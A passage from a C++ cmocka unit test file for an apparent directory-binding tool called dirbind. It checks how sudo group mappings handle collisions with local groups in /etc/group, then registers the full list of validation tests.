    assert_string_equal(r.skipped[0].name.c_str(), "dirbind-sudo");
    assert_true(r.skipped[0].reason.find("sudo_groups.password: the name dirbind-sudo is a local group in /etc/group") ==
                0);
    assert_true(r.skipped[1].reason.find("sudo_groups.nopasswd: gid 65601 is a local group") == 0);
    assert_true(r.skipped[1].reason.find("users with sudo: nopasswd get no sudo rights") != std::string::npos);
    assert_string_equal(members_of(r.dir, "dirbind-sudo").c_str(), "(no group)");
    assert_true(gids_of(r.dir, "alice").empty());
    assert_true(gids_of(r.dir, "bob2").empty());
}

void test_sudo_groups_existing_local_group(void**) {
    // The explicit opt-in: admins get the local group's gid, nothing is served under its name.
    Config cfg;
    cfg.sudo_groups.password = {"sudo", 0, true};
    RawDirectory raw;
    User a = user("alice", 2001);
    a.sudo = dirbind::Sudo::password;
    raw.users = {a};
    Result r = run(raw, cfg);
    assert_int_equal(r.skipped.size(), 0);
    assert_true(gids_of(r.dir, "alice") == (std::vector<std::uint32_t>{27}));
    assert_string_equal(members_of(r.dir, "sudo").c_str(), "(no group)");
    // The local group is missing: no membership, reported.
    cfg.sudo_groups.password = {"wheel", 0, true};
    r = run(raw, cfg);
    assert_true(gids_of(r.dir, "alice").empty());
    assert_int_equal(r.skipped.size(), 1);
    assert_true(r.skipped[0].reason.find("sudo_groups.password: existing_local_group is set, but wheel is not a "
                                         "group in /etc/group") == 0);
}

}  // namespace

int main() {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_valid_user_is_completed),
        cmocka_unit_test(test_uid_zero_and_reserved_ranges),
        cmocka_unit_test(test_root_is_never_served),
        cmocka_unit_test(test_local_account_wins),
        cmocka_unit_test(test_duplicates_first_wins),
        cmocka_unit_test(test_hostile_names),
        cmocka_unit_test(test_hostile_gecos),
        cmocka_unit_test(test_check_home),
        cmocka_unit_test(test_homes_in_directory),
        cmocka_unit_test(test_shells),
        cmocka_unit_test(test_password_hash),
        cmocka_unit_test(test_totp_secret),
        cmocka_unit_test(test_bad_key_dropped_user_kept),
        cmocka_unit_test(test_group_rules),
        cmocka_unit_test(test_primary_group_and_private_groups),
        cmocka_unit_test(test_private_group_name_taken),
        cmocka_unit_test(test_local_group_allowlist),
        cmocka_unit_test(test_member_aggregation),
        cmocka_unit_test(test_read_local_accounts),
        cmocka_unit_test(test_sudo_groups_membership),
        cmocka_unit_test(test_sudo_groups_collisions),
        cmocka_unit_test(test_sudo_groups_existing_local_group),
    };
    return cmocka_run_group_tests_name("validate", tests, tmp_setup, tmp_teardown);
}
